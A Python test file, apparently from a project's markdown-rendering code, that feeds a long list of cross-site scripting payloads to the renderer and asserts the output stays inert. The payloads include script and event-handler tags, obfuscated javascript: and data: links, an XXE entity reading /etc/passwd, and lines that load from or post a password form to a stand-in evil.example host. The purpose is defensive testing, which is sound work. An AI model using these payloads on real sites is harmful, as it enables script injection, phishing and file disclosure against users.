"""Nothing that a model or a person writes can run, load or disguise itself in a page."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.rendering import MOST_MARKDOWN, render_markdown
from tests.core.reading_html import dangers_in

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "![alt](javascript:alert(1))",
    "![alt](https://evil.example/pixel.png)",
    '![alt](x "onerror=alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    '[x](http://a" onmouseover="alert(1))',
    "[x](http://a 'onmouseover=alert(1)')",
    '[x](http://a "\\"onmouseover=alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<http://a.example/'onmouseover='alert(1)>",
    'http://a.example/"onmouseover="alert(1)',
    "> > - [x](javascript:alert(1))\n> > - **<b onclick=alert(1)>**",
    "**[_`<script>`_](javascript:alert(1))**",
    "# <script>alert(1)</script>\n\n| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",  # noqa: E501
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\n'</code></pre><script>alert(1)</script>'\n```",
    "~~~js\n</pre><svg onload=alert(1)>\n~~~",
    "`<script>alert(1)</script>`",
    '- [x] <input autofocus onfocus=alert(1)>\n- [ ] "><script>alert(1)</script>',
    "<style>@import '//evil.example/x.css'</style>",
    '<p style="background:url(javascript:alert(1))">',
    "<form action=//evil.example><input name=password><button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u202e<script>alert(1)</script>",
    "<a id=x name=y class=z href=http://a onclick=alert(1) target=_blank>x</a>",
    "a[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    'a[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: [x](javascript:alert(1))',
    "$<script>alert(1)</script>$ \\(<img src=x onerror=alert(1)>\\)",
    "$$\n<script>alert(1)</script>\n$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", SCRIPTS)
def test_a_script_stays_text(text: str) -> None:
    html = render_markdown(text)

    assert dangers_in(html) == []
    assert "<script" not in html.lower()


@pytest.mark.parametrize("text", SCRIPTS)
@pytest.mark.parametrize(
    "around", ["> {}", "- {}\n  - {}", "1. **{}**", "| a |\n|---|\n| {} |", "[{}](http://a)"]
)
def test_a_script_stays_text_wherever_it_stands(text: str, around: str) -> None:
    assert dangers_in(render_markdown(around.replace("{}", text))) == []


def test_a_script_in_a_text_too_long_to_be_rendered_stays_text() -> None:
    html = render_markdown("\n".join(SCRIPTS) + "x" * MOST_MARKDOWN)

    assert dangers_in(html) == []


PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            '"',
            "'",
            "`",
            "```",
            "\n",
            "\n\n",
            "    ",
            "[",
            "]",
            "](",
            ")",
            "!",
            "|",
            "---",
            "- [x] ",
        ),
        *("<script>", "</script>", "<img src=x onerror=y>", "javascript:", "data:text/html,", "http://a.b/"),
        *(
            "<!--",
            "-->",
            "]]>",
            "&lt;",
            "&#60;",
            "&colon;",
            "onclick=",
            " style=",
            "\\",
            "*",
            "_",
            "~~",
            "> ",
        ),
        *("python", "html", "\t", "\u2028", "\x0b", "😀", "a", "www.a.b", "x@y.z"),
    ]
)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=200))
def test_no_text_at_all_becomes_anything_but_harmless_html(text: str) -> None:
    assert dangers_in(render_markdown(text)) == []


@pytest.mark.parametrize(
    ("html", "danger"),
    [
        ("<script>", "<script>"),
        ("<p onclick=x>", "p onclick="),
        ("<a rel=noopener href='javascript:x'>", "a link with javascript:"),
        ("<a href='http://a'>", "a link that knows its opener"),
        ("<input type=text>", "a field to fill in"),
        ("<!-- x -->", "not an element:  x "),
    ],
)
def test_dangers_would_be_seen(html: str, danger: str) -> None:
    assert danger in dangers_in(html)
